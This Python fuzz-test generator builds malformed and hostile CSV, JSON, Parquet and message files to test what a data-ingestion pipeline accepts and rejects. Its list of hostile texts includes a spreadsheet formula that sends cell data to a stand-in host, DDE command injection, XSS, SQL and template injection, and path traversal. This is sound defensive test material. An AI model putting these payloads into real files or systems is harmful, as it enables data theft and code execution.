"""Landing files, whole and broken: good rows with known values among hostile ones, and one look at a folder."""

from __future__ import annotations

import io
import json
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import numpy as np

KINDS = ("csv", "json", "parquet", "text")
_COLUMNS = ("interaction_id", "channel", "started_at", "agent_id", "campaign", "hold_s")
_MESSAGE_COLUMNS = ("interaction_id", "seq", "party", "text")
# Texts that a later stage, a page or a spreadsheet might trip over. All of them are text, and are taken as such.
_TEXTS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script><svg/onload=alert(1)>",
    "'; drop table interactions; --",
    "{{ 7*7 }} {% raw %} ${7*7} %n%n%s%x",
    "../../../../etc/passwd",
    "\u202eexe.gnp\u202c and \u2066hidden\u2069",
    "zero\u200b-\u200cwidth\u200d \ufeffmarks",
    "a\u0301\u0301\u0301\u0301 Z\u0335\u0321\u035c",
    "\U0001f469\u200d\U0001f469\u200d\U0001f466 \U0001f1fa\U0001f1f8",
    "line\u2028separator\u2029and\x85next",
    "tab\tand\x0bvertical\x0cfeed",
    "bell\x07 escape\x1b[31mred\x1b[0m delete\x7f",
    "null\x00byte",
    "NaN", "null", "None", "true", "-0", "1e309", "0x41", "1_000", "٣", "",
)  # fmt: skip
# Words that repeat up to the longest text: patterns that search back and forth would hang on them.
_REPEATED = (
    *("1 ", "one ", "a", "a.", "a@", "@", "at ", " at a dot ", "email ", "e-mail is ", "x@x.", "4111 ", "4111-"),
    *("double ", "my card number is ", "five hundred ", "\n", " ", "\u200b", "((((", "no ", "not good ", "1.1", "a-"),
)
_CELLS = (
    *("", " ", "\x00", "\x01id", "a\tb", "a/b", "../x", "'", "\\", "a" * 200, "=1+1", "-1", "+1", "\u202eid"),
    *("nan", "inf", "1e400", "9" * 400, "0x10", "1_0", "½", "２", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"),
    *("2026-02-30T00:00:00Z", "2026-03-02T25:00:00Z", "2026-03-02", "1772442000", "now", "2026-03-02T09:00:00+99:00"),
    *("1969-12-31T23:59:59Z", "2999-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00"),
)
_NOT_UTF8 = (b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"caf\xe9", b"\xc0\xaf")


@dataclass(frozen=True)
class TableInput:
    """A landing file and the good rows in it: (interaction id, values) that must be taken as they stand."""

    name: str
    content: bytes
    what: str
    good: frozenset[tuple] = frozenset()
    interactions: tuple[str, ...] = field(default=())


def table_input(kind: str, number: int, random: np.random.Generator) -> TableInput:
    """The `number`-th input of a kind (csv, json, parquet, text)."""
    return {"csv": _csv, "json": _json, "parquet": _parquet, "text": _text}[kind](f"{kind}{number:05d}", random)


def interactions_csv(ids: list[str]) -> bytes:
    """A good interactions file with these ids."""
    rows = [_good_row(i, "chat") for i in ids]
    return "".join(",".join(r) + "\n" for r in (_COLUMNS, *rows)).encode()


def _good_row(interaction_id: str, channel: str = "call") -> tuple[str, ...]:
    return (interaction_id, channel, "2026-03-02T09:00:00Z", "007", f"of {interaction_id}", "3.5")


def _letters(random: np.random.Generator) -> str:
    """Ten letters: digits could be taken for an account number, and be redacted where a column is free text."""
    return bytes((97 + random.integers(0, 26, 10)).tolist()).decode()


def _ids(label: str, random: np.random.Generator) -> list[str]:
    """Ids that no single flipped bit turns into another."""
    return [f"{label}-{_letters(random)}" for _ in range(int(random.integers(3, 9)))]


def _key(row: tuple[str, ...]) -> tuple:
    return ("interactions", row[0], row[1], row[3], row[4])


def _pick(values: tuple, random: np.random.Generator):
    return values[int(random.integers(len(values)))]


# --- CSV


def _csv(label: str, random: np.random.Generator) -> TableInput:
    rows = [_good_row(i) for i in _ids(label, random)]
    quoted = random.random() < 0.3
    lines = [",".join(f'"{c}"' if quoted and n % 2 else c for n, c in enumerate(r)).encode() for r in rows]
    end = _pick((b"\n", b"\r\n", b"\n", b"\r"), random)
    header = ",".join(_COLUMNS).encode()
    if random.random() < 0.2:
        header = header.upper()
    good = dict(zip(lines, rows, strict=True))
    done = ["end" + end.decode().encode("unicode_escape").decode()]
    for _ in range(int(random.integers(1, 5))):
        what, line = _hostile_line(rows, label, random)
        lines.insert(int(random.integers(len(lines) + 1)), line)
        done.append(what)
    content = (b"\xef\xbb\xbf" if random.random() < 0.15 else b"") + header + end
    start = len(content)
    content += b"".join(line + (_pick((b"\n", b"\r\n"), random) if end == b"\r\n" else end) for line in lines)
    keep = frozenset(_key(r) for r in rows)
    if random.random() < 0.3:
        what, content, intact = _damaged_file(content, start, random)
        done.append(what)
        left = set(content.replace(b"\r", b"\n").split(b"\n")[:-1]) if intact else set()
        keep = frozenset(_key(row) for line, row in good.items() if line in left)
    return TableInput(f"interactions-{label}.csv", content, "+".join(done), keep)


def _hostile_line(rows: list[tuple[str, ...]], label: str, random: np.random.Generator) -> tuple[str, bytes]:
    way = int(random.integers(12))
    cells = list(_good_row(f"{label}-bad-{_letters(random)}"))
    n = int(random.integers(len(cells)))
    if way == 0:
        cells[n] = '"' + cells[n]
        return "unclosed quote", ",".join(cells).encode()
    if way == 1:
        cells[n] = _pick(('"a"b', 'a"b', '""a', '"', '"""', '" "x'), random)
        return "stray quote", ",".join(cells).encode()
    if way == 2:
        return "ragged", ",".join(cells[:n] if random.random() < 0.5 else cells + ["x"] * (n + 1)).encode()
    if way == 3:
        return "no UTF-8", ",".join(cells).encode().replace(cells[n].encode(), _pick(_NOT_UTF8, random), 1)
    if way == 4:
        return "doubled id", ",".join((rows[-1][0], "fax", "never", "", "", "")).encode() if n else b""
    if way == 5 and random.random() < 0.03:
        cells[4] = "a" * int(random.choice((999_999, 10_000_001)))
        return "huge field", ",".join(cells).encode()
    if way == 6:
        return "bytes", random.bytes(int(random.integers(1, 200))).replace(b"\n", b"").replace(b"\r", b"")
    if way == 7:
        return "empty", _pick((b"", b" ", b",", b",,,,,", b"\x00", b"\x1a", b"#comment"), random)
    if way == 8:
        cells[4] = '"' + _pick(_TEXTS, random).replace('"', '""') + '"'
        return "text", ",".join(cells).encode()
    if way == 9:
        cells[4] = '"' + "two\nlines".replace("\n", _pick(("\n", "\r\n"), random)) + '"'
        return "line break", ",".join(cells).encode()
    cells[n] = _pick(_CELLS, random)
    return "cell", ",".join(cells).encode()


def _damaged_file(content: bytes, start: int, random: np.random.Generator) -> tuple[str, bytes, bool]:
    """(what was done, the bytes, whether the header still stands so that whole lines must be read)."""
    way = int(random.integers(8))
    if way == 0:
        return "UTF-16", b"\xff\xfe" + content.decode("utf-8", "replace").encode("utf-16-le"), False
    if way == 1:
        return "doubled header", b"agent_id," + content, False
    if way == 2:
        return "no header", content[start:], False
    if way == 3:
        return "cut", content[: int(random.integers(start, len(content) + 1))], True
    if way == 4:
        return "gzip magic", b"\x1f\x8b\x08\x00" + content, False
    if way == 5:
        return (
            "odd columns",
            content.replace(b"hold_s", _pick((b"\xff\xfe", b"", b"x" * 5000, b"a\x00b"), random), 1),
            True,
        )
    data = bytearray(content)
    for _ in range(int(random.integers(1, 12))):
        data[int(random.integers(start if way == 6 else 0, len(data)))] ^= 1 << int(random.integers(8))
    return "flipped bits", bytes(data), way == 6


# --- JSON lines


def _json(label: str, random: np.random.Generator) -> TableInput:
    rows = [_good_row(i) for i in _ids(label, random)]
    lines = [json.dumps(dict(zip(_COLUMNS, r, strict=True))).encode() for r in rows]
    good = dict(zip(lines, rows, strict=True))
    done = []
    for _ in range(int(random.integers(1, 5))):
        what, line = _hostile_json(label, random)
        lines.insert(int(random.integers(len(lines) + 1)), line)
        done.append(what)
    if random.random() < 0.15:
        done.append("list")
        content = b"[" + b",".join(lines) + b"]"
        try:
            kept = frozenset(map(_key, rows)) if isinstance(json.loads(content), list) else frozenset()
        except (ValueError, RecursionError):
            kept = frozenset()
        return TableInput(f"interactions-{label}.json", content, "+".join(done), kept)
    content = (b"\xef\xbb\xbf" if random.random() < 0.1 else b"") + b"".join(line + b"\n" for line in lines)
    kept = frozenset(map(_key, rows))
    if random.random() < 0.25:
        data = bytearray(content)
        for _ in range(int(random.integers(1, 12))):
            data[int(random.integers(3, len(data)))] ^= 1 << int(random.integers(8))
        content = bytes(data)[: int(random.integers(3, len(data) + 1))]
        done.append("flipped and cut")
        left = set(content.removeprefix(b"\xef\xbb\xbf").split(b"\n")[:-1]) if content[:1] != b"[" else set()
        kept = frozenset(_key(row) for line, row in good.items() if line in left)
    return TableInput(f"interactions-{label}.jsonl", content, "+".join(done), kept)


def _hostile_json(label: str, random: np.random.Generator) -> tuple[str, bytes]:
    row: dict = dict(zip(_COLUMNS, _good_row(f"{label}-bad-{_letters(random)}"), strict=True))
    name = _pick(_COLUMNS, random)
    way = int(random.integers(12))
    if way == 0:
        deep = int(random.choice((50, 900, 5_000, 200_000)))
        opening, closing = _pick((("[", "]"), ('{"a":', "}")), random)
        value = opening * deep + "1" + closing * (deep if random.random() < 0.6 else 0)
        return "deep nesting", (json.dumps(row)[:-1] + f', "{_pick(("more", name), random)}": {value}}}').encode()
    if way == 1:
        value = "9" * int(random.choice((30, 4_000, 5_000, 100_000)))
        return "huge integer", (
            json.dumps(row)[:-1] + f', "{_pick(("hold_s", "more", name), random)}": {value}}}'
        ).encode()
    if way == 2:
        value = _pick((True, None, 7, 1.5, [], {}, [1, [2]], {"a": {"b": None}}, "", 10**30, -0.0, 1e308), random)
        return "other type", json.dumps(row | {name: value}).encode()
    if way == 3:
        return "doubled key", (json.dumps(row)[:-1] + f', "{name}": "other"}}').encode()
    if way == 4:
        where = _pick((name, "more"), random)
        return "lone surrogate", (json.dumps(row)[:-1] + f', "{where}": "\\ud800 x"}}').encode()
    if way == 5:
        return "surrogate in a key", (json.dumps(row)[:-1] + ', "\\udfff": "x"}').encode()
    if way == 6:
        return "no number", (
            json.dumps(row)[:-1] + f', "hold_s": {_pick(("NaN", "Infinity", "-Infinity"), random)}}}'
        ).encode()
    if way == 7:
        line = json.dumps(row)
        return "cut line", line[: int(random.integers(len(line)))].encode()
    if way == 8:
        return "no object", _pick(
            (b"null", b"[]", b"1", b'"x"', b"{}", b"{", b"}", b"\x00", b"\xef\xbb\xbf{}", b"NaN"), random
        )
    if way == 9:
        return "no UTF-8", json.dumps(row).encode().replace(b"call", _pick(_NOT_UTF8, random))
    if way == 10:
        return "text", json.dumps(
            row | {"campaign": _pick(_TEXTS, random)}, ensure_ascii=random.random() < 0.5
        ).encode()
    return "cell", json.dumps(row | {name: _pick(_CELLS, random)}).encode()


# --- Parquet


def _parquet(label: str, random: np.random.Generator) -> TableInput:
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = [_good_row(i) for i in _ids(label, random)]
    columns = {name: pa.array([r[n] for r in rows]) for n, name in enumerate(_COLUMNS)}
    kept, what = frozenset(map(_key, rows)), "whole"
    if random.random() < 0.5:
        name, (what, values, good) = _pick(_COLUMNS, random), _pick(_odd_arrays(len(rows)), random)
        if good:
            name = "more"
        columns[name] = values
        kept = kept if good else frozenset()
    file = io.BytesIO()
    codec = _pick(("snappy", "zstd", "gzip", "none"), random)
    pq.write_table(pa.table(columns), file, compression=codec, use_dictionary=bool(random.random() < 0.5))
    content = file.getvalue()
    way = int(random.integers(6))
    if way >= 2:
        kept, data = frozenset(), bytearray(content)
        if way == 2:
            data = data[: int(random.integers(len(data)))]
            what += "+cut"
        elif way == 3:
            data[-8:-4] = int(_pick((0, 1, 8, 0x7FFF_FFFF, 0xFFFF_FFFF), random)).to_bytes(4, "little")
            what += "+footer length"
        else:
            low = 4 if way == 4 else max(4, len(data) - 8 - int.from_bytes(content[-8:-4], "little"))
            for _ in range(int(random.integers(1, 12))):
                data[int(random.integers(low, len(data) - 8))] = int(random.integers(256))
            what += "+flipped" if way == 4 else "+flipped footer"
        content = bytes(data)
    return TableInput(f"interactions-{label}.parquet", content, f"{codec}+{what}", kept)


def _odd_arrays(n: int) -> tuple[tuple, ...]:
    """(what, array, whether the good rows stand beside it as a column of their own)."""
    from decimal import Decimal

    import pyarrow as pa

    made = (
        ("nested", pa.array([{"a": [{"b": None, "c": 1.5}]}] * n)),
        ("lists", pa.array([[1, 2]] * n)),
        ("binary", pa.array([b"\xff\x00"] * n)),
        ("text as binary", pa.array([b"abc"] * n)),
        ("decimals", pa.array([Decimal("1.50")] * n)),
        ("integers", pa.array([2**62] * n)),
        ("floats", pa.array([float("nan")] * n)),
        ("nulls", pa.nulls(n)),
        ("booleans", pa.array([True] * n)),
        ("days beyond year 9999", pa.array([2**31 - 1] * n, pa.date32())),
        ("times beyond year 9999", pa.array([2**62] * n, pa.timestamp("us", "UTC"))),
        ("times", pa.array([1_772_442_000_000_000_000] * n, pa.timestamp("ns"))),
        ("times of a zone", pa.array([1_772_442_000] * n, pa.timestamp("s", "America/New_York"))),
        ("durations", pa.array([2**62] * n, pa.duration("us"))),
        ("times of day", pa.array([1] * n, pa.time32("s"))),
        ("dictionary", pa.array(["x"] * n).dictionary_encode()),
    )
    # bytes that are no text cost their row, also in a column that the interface doesn't know
    return tuple((what, values, good) for what, values in made for good in (False, what != "binary"))


# --- texts


def _text(label: str, random: np.random.Generator) -> TableInput:
    """Messages: good ones, and hostile ones that are texts all the same."""
    call, other = f"{label}-{_letters(random)}", f"{label}-bad-{_letters(random)}"
    rows = [(call, str(n), "agent", f"Thank you for calling, part {n} of {label}.") for n in range(3)]
    lines = [json.dumps(dict(zip(_MESSAGE_COLUMNS, r, strict=True))).encode() for r in rows]
    done = []
    for n in range(int(random.integers(1, 4))):
        what, text = _hostile_text(random)
        line = json.dumps(dict(zip(_MESSAGE_COLUMNS, (other, str(n), "customer", text), strict=True))).encode()
        if what == "no UTF-8":
            line = line.replace(b"HERE", _pick(_NOT_UTF8, random))
        lines.insert(int(random.integers(len(lines) + 1)), line)
        done.append(what)
    good = frozenset(("messages", r[0], int(r[1]), r[3]) for r in rows)
    return TableInput(f"messages-{label}.jsonl", b"\n".join(lines) + b"\n", "+".join(done), good, (call, other))


def _hostile_text(random: np.random.Generator) -> tuple[str, str]:
    way = int(random.integers(8))
    if way == 0:
        unit = _pick(_REPEATED, random)
        n = int(random.choice((500, 5_000, 20_000))) if random.random() < 0.9 else 100_000
        return f"{n} characters of {unit!r}", (unit * (n // len(unit) + 1))[:n]
    if way == 1:
        return "random characters", "".join(map(chr, random.integers(1, 0xD7FF, 300)))
    if way == 2:
        return "random ASCII", "".join(map(chr, random.integers(0, 128, 2_000)))
    if way == 3:
        words = [_pick(_REPEATED, random) for _ in range(int(random.integers(5, 400)))]
        return "mixed words", "".join(words)
    if way == 4 and random.random() < 0.2:
        return "word of 1 MB", "a" * 1_000_000
    if way == 5:
        return "no UTF-8", "before HERE after"
    if way == 6:
        return "surrogate", "x\ud800y"
    return "text", " ".join(_pick(_TEXTS, random) for _ in range(3))


# --- one look, in a child process


def look(folder: str, cache: str) -> dict:
    """What Landing makes of a folder: the good rows that it took, its rejects, and whether its counts add up."""
    from pipelines.contracts import landing as tables
    from pipelines.contracts.vocabulary import QUARANTINED
    from pipelines.landing import Landing, LandingOptions
    from pipelines.settings import Settings

    seen = Landing(
        LandingOptions(
            folder=Path(folder),
            cache=Path(cache),
            timezone="America/New_York",
            recording_pattern=Settings().recording_pattern,
            first_day=date(2020, 1, 1),
            pseudonym_key="fuzz",
        )
    )
    files, rejects = seen.files(), seen.rejects()
    seen.day_table()
    for table in (tables.AGENTS, tables.SURVEYS, tables.TICKETS, tables.REVIEWS, tables.ISSUE_TYPES):
        seen.reference(table)
    taken, kept = set(), []
    for day in seen.days():
        for row in seen.interactions(day).iter_rows(named=True):
            if row["landing_reason"] is None:
                taken.add(tuple(row[c] for c in ("interaction_id", "channel", "agent_id", "campaign")))
            else:
                kept.append((row["source_file"], row["landing_reason"]))
        texts = {
            (r["interaction_id"], r["seq"], r["text"]) for r in seen.texts(tables.MESSAGES, day).iter_rows(named=True)
        }
        taken |= {("messages", *t) for t in texts}
        seen.texts(tables.TRANSCRIPTS, day)
    reasons = [*kept, *rejects.select("source_file", "reason").iter_rows()]
    counts = files.select("source_file", "rows_read", "rows_accepted", "rows_rejected").rows()
    return {
        "taken": {t if t[0] == "messages" else ("interactions", *t) for t in taken},
        "reasons": reasons,
        "unknown": sorted({r for _, r in reasons} - set(QUARANTINED)),
        "uncounted": [name for name, read, accepted, rejected in counts if read != accepted + rejected],
        "files": {name: accepted for name, _, accepted, _ in counts},
    }
